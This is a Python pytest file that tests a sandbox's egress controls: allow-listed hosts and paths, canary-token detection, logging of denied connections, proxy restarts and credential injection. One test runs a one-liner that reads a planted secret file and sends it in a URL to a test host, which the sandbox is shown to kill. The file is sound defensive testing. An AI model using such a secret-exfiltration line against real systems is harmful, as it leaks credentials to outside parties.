"""The network of a pool's runs: each has its own gateway, and all have the same rules."""

from __future__ import annotations

import os
import signal
import threading
import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from network_certificates import Certificates
from network_routes import codes, network, rule, told
from network_web import Site, Web

from belljar import PolicyError, Pool, PrerequisiteError
from belljar.egress.client.client import PROXY
from belljar.sandbox.network.egress_check import Canary
from belljar.sandbox.record.result import Outcome

pytestmark = pytest.mark.backend("bubblewrap")

REACHES = """
import socket, urllib.error, urllib.request

def tried(what):
    try:
        return what()
    except urllib.error.HTTPError as error:
        return error.code
    except OSError as error:
        return type(getattr(error, "reason", error)).__name__

get = lambda url: tried(lambda: urllib.request.urlopen(url, timeout=20).read().decode().strip())
print(get("http://web.test/"), get("https://deep.wild.test/listed"), get("https://deep.wild.test/other"))
print(get("http://other.test/"), tried(lambda: socket.create_connection(("192.0.2.1", 81), 10)))
"""
SEEN = "hello from web.test/ to GET hello from deep.wild.test/listed to GET 403\n403 ConnectionRefusedError\n"


@pytest.fixture
def pool(web: Web, secure: Web, certificates: Certificates) -> Iterator[Pool]:
    """One whose runs reach a server without TLS, and one path of a server with."""
    rules = (rule("web.test", web.address), rule("deep.wild.test", secure.address, paths=["/listed"]))
    policy = network(*rules, ca_file=str(certificates.authority), canary_files=["/workspace/secret"])
    with Pool(policy, size=2) as made:
        yield made


def test_what_is_listed_is_reached(pool: Pool) -> None:
    """And nothing else, in one run after the other, and in several at once."""
    for result in (pool.run(REACHES), *pool.map([REACHES] * 4, concurrency=2)):
        assert told(result) == SEEN
        assert codes(result) == {"path-not-listed", "name-not-listed", "address-not-listed"}


def test_code_that_needs_no_network(pool: Pool) -> None:
    """Has it all the same, and ends as any other."""
    assert told(pool.run("print(1)")) == "1\n"


def test_a_planted_token_stops_the_run(pool: Pool, site: Site) -> None:
    """It lies in every run's workspace, and is no artifact."""
    result = pool.run("print(len(open('secret').read()))")
    assert told(result) == "41\n"
    assert result.artifacts == ()
    code = "import urllib.request as u; u.urlopen('http://web.test/?' + open('secret').read().strip())"
    result = pool.run(code)
    assert result.outcome is Outcome.KILLED
    assert "canary token" in result.reason
    assert not site.requests


def test_a_token_that_would_lie_elsewhere() -> None:
    with pytest.raises(PolicyError, match="not in the workspace"):
        Pool({**network(canary_files=["/data/secret"]), "fs": {"mounts": [{"path": "/data", "rw": True}]}})


# --- served before there is a run ------------------------------------------------------------------------------------


def test_no_run_waits_for_the_proxy_to_take_its_jar(pool: Pool, monkeypatch: pytest.MonkeyPatch) -> None:
    """It has been served, and tried, before it was lent; and what is told of it has the run's own name."""
    threads: list[str] = []
    serve = PROXY.serve

    def noted(*arguments: Any) -> Any:
        threads.append(threading.current_thread().name)
        return serve(*arguments)

    monkeypatch.setattr(PROXY, "serve", noted)
    results = [pool.run(REACHES) for _ in range(4)]
    assert set(threads) == {"belljar-shelf"}
    for result in results:
        assert {event.run_id for event in result.egress} == {result.run_id}
        assert len(result.egress) > 5, "and what was told of the jar's trial is not the run's"
        assert not [event for event in result.egress if "canary" in event.host]
    assert len({result.run_id for result in results}) == 4


def test_what_is_tried_last_is_told(pool: Pool) -> None:
    """A packet, a connection and a name, just before the end: judged and told, in every one of many runs."""
    code = """
import os, socket, struct
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.7", 9))
end = socket.socket()
end.setblocking(False)
end.connect_ex(("192.0.2.8", 81))
question = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"\\4last\\4test\\0\\0\\1\\0\\1"
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ("198.18.0.1", 53))
os._exit(0)
"""
    for result in pool.map([code] * 10, concurrency=2):
        assert {one.target for one in result.denials} >= {
            "send a datagram to 192.0.2.7:9",
            "connect 192.0.2.8:81",
            "look up last.test",
        }


def test_a_proxy_that_died_while_jars_waited(pool: Pool) -> None:
    """The next run has a jar with a new one."""
    assert told(pool.run(REACHES)) == SEEN
    killed = PROXY.pid
    os.kill(killed, signal.SIGKILL)
    while PROXY.pid == killed:
        time.sleep(0.005)
    assert told(pool.run(REACHES)) == SEEN
    assert PROXY.pid not in (0, killed)


def test_secrets_are_those_of_the_runs_beginning(
    secure: Web, site: Site, certificates: Certificates, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Not those of the time when its jar was made."""
    spec = {"from": "env:ITEMS_SECRET", "placeholder": "nothing-secret", "env": "ITEMS_TOKEN"}
    rules = network(rule("web.test", secure.address, 443, credential="items"), ca_file=str(certificates.authority))
    monkeypatch.delenv("ITEMS_SECRET", raising=False)
    code = "import urllib.request as u; u.urlopen('https://web.test/').read()"
    with Pool({**rules, "credentials": {"items": spec}}, size=2) as pool:
        with pytest.raises(PrerequisiteError, match="ITEMS_SECRET"):
            pool.run(code)
        for secret in ("one-secret-value", "another-secret-value"):
            monkeypatch.setenv("ITEMS_SECRET", secret)
            told(pool.run(code))
            assert site.requests[-1].headers.get("authorization") == f"Bearer {secret}"


def test_a_jar_whose_network_lets_too_much_through(monkeypatch: pytest.MonkeyPatch, web: Web) -> None:
    """Is found before it is used: the run is refused, and its code not started."""
    monkeypatch.setattr(Canary, "problems", lambda _self: ["a name that nobody listed was not refused"])
    with Pool(network(rule("web.test", web.address)), size=1) as pool:
        result = pool.run("print('started')")
    assert (result.outcome, result.stdout) == (Outcome.REFUSED, "")
    assert "a name that nobody listed" in result.reason


def test_nothing_is_left_at_the_proxy(web: Web) -> None:
    """Of jars that were used and of jars that were not."""

    def held() -> int:
        return len(os.listdir(f"/proc/{PROXY.pid}/fd"))

    with Pool(network(rule("web.test", web.address)), size=1) as first:
        told(first.run("pass"))
    before = standing_still(held)
    with Pool(network(rule("web.test", web.address)), size=3) as pool:
        for result in pool.map(["pass"] * 6, concurrency=2):
            told(result)
        deadline = time.monotonic() + 20
        while held() == before and time.monotonic() < deadline:  # until another one waits
            time.sleep(0.02)
        assert held() > before
    assert standing_still(held) <= before


def standing_still(look: Callable[[], int]) -> int:
    """The number, once it has stood still for a second."""
    last, since = look(), time.monotonic()
    while time.monotonic() - since < 1:
        time.sleep(0.05)
        if (now := look()) != last:
            last, since = now, time.monotonic()
    return last
